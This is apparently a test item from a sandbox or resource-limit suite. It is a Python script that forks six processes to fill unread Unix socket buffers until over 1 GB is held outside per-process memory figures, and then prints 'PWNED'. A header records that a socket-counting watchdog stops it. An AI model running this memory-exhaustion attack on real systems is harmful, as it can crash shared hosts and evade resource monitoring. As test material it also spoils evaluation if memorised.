# what: fills the buffers of sockets that nobody reads: memory that is in no process' figures
# on: numbers
# status: out_of_memory, timed_out
# stopped by: the watchdog counts the sockets of the network namespace at the most they can hold
# %% [total]
import os
import socket
import time

ROOM = 350 << 20
reader, writer = os.pipe()
for _ in range(6):
    if os.fork() == 0:
        piece, held, pairs = b"x" * 60_000, 0, []
        while held < ROOM and len(pairs) < 1500:
            pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            for one in pair:
                one.setblocking(False)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 16 << 20)
                try:
                    while held < ROOM:
                        held += one.send(piece)
                except BlockingIOError:
                    pass
            pairs.append(pair)
        os.write(writer, b"%d " % held)
        time.sleep(6)
        os._exit(0)
held = 0
while held < 1 << 30:
    held += sum(map(int, os.read(reader, 4096).split()))
time.sleep(4)
print("PWNED: held", held >> 20, "MB")
# %% [scaled]
pass
# %% [classify]
pass
